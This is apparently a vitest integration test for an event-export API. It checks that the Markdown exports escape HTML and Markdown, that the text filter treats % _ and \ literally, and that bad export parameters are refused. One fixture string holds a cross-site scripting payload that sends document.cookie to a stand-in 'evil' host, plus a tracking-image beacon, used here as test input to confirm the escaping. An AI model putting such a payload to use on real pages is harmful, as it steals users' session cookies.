import { createDb, type Db } from "@mirrorplane/db";
import { createTestDatabase } from "@mirrorplane/db/testing";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { createAgentDirectory } from "../agents";
import { peerHeader } from "../client-address";
import { createCaller } from "../root";
import { createContextInner } from "../trpc";
import { createUser } from "../users";

// Issue 15.6: what the exports and the text filter do with hostile text, through the real
// export route (with a real session) and the events router.

const origin = "http://127.0.0.1:3000";
let database: { url: string; drop(): Promise<void> };
let db: Db;
let exportRoute: typeof import("~/app/api/events/export/route");
let cookie = "";
const at = new Date("2026-05-31T10:00:00Z");
const hostile =
  'Memory failure: 0x7e01: <img src=x onerror="fetch(`//evil/`+document.cookie)"> ![p](http://evil/beacon.png) | forged | cell';

beforeAll(async () => {
  database = await createTestDatabase(inject("pgAdminUrl"), "exporthttp");
  Object.assign(process.env, {
    DATABASE_URL: database.url,
    MIRRORPLANE_AGENT_TOKEN: "export-test-token-0123456789",
    BETTER_AUTH_SECRET: "export-test-secret-0123456789-0123456789",
    MIRRORPLANE_PUBLIC_URL: origin,
  });
  db = createDb(database.url, { poolSize: 2 });
  await createUser(db, { username: "reader", password: "reader password 1", role: "viewer" });
  await db.event.createMany({
    data: [
      { message: hostile, device: "<b>pmem0</b>" },
      { message: "resync 100% done" },
      { message: "resync 1000 regions done" },
      { message: "leg a_b failed" },
      { message: "leg axb failed" },
      { message: "path C:\\dev failed" },
      { message: "path C:dev failed" },
    ].map((e, i) => ({
      idempotencyKey: `x${i}`,
      kind: "memory_failure",
      severity: "error" as const,
      source: "kmsg",
      occurredAt: new Date(at.getTime() + i * 1000),
      ...e,
    })),
  });
  const auth = await import("~/app/api/auth/[...all]/route");
  exportRoute = await import("~/app/api/events/export/route");
  const res = await auth.POST(
    new Request(`${origin}/api/auth/sign-in/username`, {
      method: "POST",
      headers: { "content-type": "application/json", origin, [peerHeader]: "10.5.0.1" },
      body: JSON.stringify({ username: "reader", password: "reader password 1" }),
    }),
  );
  cookie = res.headers.get("set-cookie")!.split(";")[0]!;
});
afterAll(async () => {
  const { db: appDb } = await import("../db");
  await appDb().$disconnect();
  await db.$disconnect();
  await database.drop();
});

const get = (query: string) =>
  exportRoute.GET(new Request(`${origin}/api/events/export?${query}`, { headers: { cookie } }));

describe("exports escape what they embed", () => {
  it("the Markdown event export shows a kernel line's HTML and Markdown as text", async () => {
    const res = await get("format=md&device=%3Cb%3Epmem0%3C%2Fb%3E");
    expect(res.status).toBe(200);
    const md = await res.text();
    const table = md.split("\n").filter((l) => l.startsWith("|"));
    expect(table.join("\n")).not.toMatch(/<img|<b>|!\[p\]/);
    expect(md).toContain("&lt;img src=x onerror=&quot;");
    expect(md).toContain("!\\[p\\]\\(http://evil/beacon.png\\)");
    // The row has exactly its 7 cells: the message's pipes did not add any.
    const row = md.split("\n").find((l) => l.includes("0x7e01"))!;
    expect(row.split(/(?<!\\)\|/).length - 2).toBe(8);
    // The filter is quoted as code, whatever it holds.
    expect(md).toContain('Filter: `{"device":"<b>pmem0</b>"}`');
  });

  it("the Markdown incident export escapes the subject and the messages", async () => {
    const res = await get(
      `format=md&incident=1&nodeId=&device=${encodeURIComponent("<b>pmem0</b>")}&from=${at.toISOString()}&to=${new Date(at.getTime() + 60_000).toISOString()}`,
    );
    expect(res.status).toBe(200);
    const md = await res.text();
    expect(md).toMatch(/^# Incident: device &lt;b&gt;pmem0&lt;\/b&gt;/);
    expect(md).not.toMatch(/<img|<b>/);
  });
});

describe("the events text filter matches text, not patterns", () => {
  const caller = () =>
    createCaller(
      createContextInner({
        db,
        agents: createAgentDirectory("unused-token-0123456789"),
        now: () => new Date(),
        user: { id: "x", username: "reader", role: "viewer" },
      }),
    );
  const messages = async (text: string) =>
    (await caller().events.list({ text })).items.map((e) => e.message).sort();

  it("treats % _ and \\ as themselves", async () => {
    expect(await messages("100%")).toEqual(["resync 100% done"]);
    expect(await messages("a_b")).toEqual(["leg a_b failed"]);
    expect(await messages("C:\\dev")).toEqual(["path C:\\dev failed"]);
    expect(await messages("%")).toEqual(["resync 100% done"]);
  });

  it("and the export route applies the same filter", async () => {
    const body = (await (await get("format=json&text=_")).json()) as {
      events: Array<{ message: string }>;
    };
    expect(body.events.map((e) => e.message)).toEqual(["leg a_b failed"]);
  });
});

describe("export parameters (issue 13)", () => {
  it("an unknown format is a 400 with a sentence, not JSON", async () => {
    const res = await get("format=xml");
    expect(res.status).toBe(400);
    expect(await res.text()).toBe(
      "Unknown export format “xml”: use format=json or format=md (Markdown).\n",
    );
  });

  it("a bad filter is refused in words", async () => {
    const res = await get("format=json&severity=loud");
    expect(res.status).toBe(400);
    const text = await res.text();
    expect(text).toMatch(/^Cannot export: “severity” must be one of /);
    expect(text).not.toContain("[");
  });

  it("honours unacknowledged only, and the Markdown export says who acknowledged", async () => {
    const acked = await db.event.findFirstOrThrow({
      where: { message: "leg a_b failed" },
      select: { id: true },
    });
    await db.event.update({
      where: { id: acked.id },
      data: { acknowledgedAt: at, acknowledgedBy: "otto", ackNote: "known, replaced" },
    });
    const all = (await (await get("format=json&text=leg")).json()) as {
      events: Array<{ message: string }>;
    };
    expect(all.events.map((e) => e.message).sort()).toEqual(["leg a_b failed", "leg axb failed"]);
    const open = (await (await get("format=json&text=leg&acknowledged=false")).json()) as {
      events: Array<{ message: string }>;
      filter: { acknowledged?: boolean };
    };
    expect(open.events.map((e) => e.message)).toEqual(["leg axb failed"]);
    expect(open.filter.acknowledged).toBe(false);
    const md = await (await get("format=md&text=leg")).text();
    expect(md).toContain("| message | acknowledged |");
    const row = md.split("\n").find((l) => /leg a\\?_b failed/.test(l))!;
    expect(row).toContain(`| by otto at ${at.toISOString()} — known, replaced |`);
    expect(md.split("\n").find((l) => l.includes("leg axb failed"))!).toMatch(/\| no \|$/);
  });
});
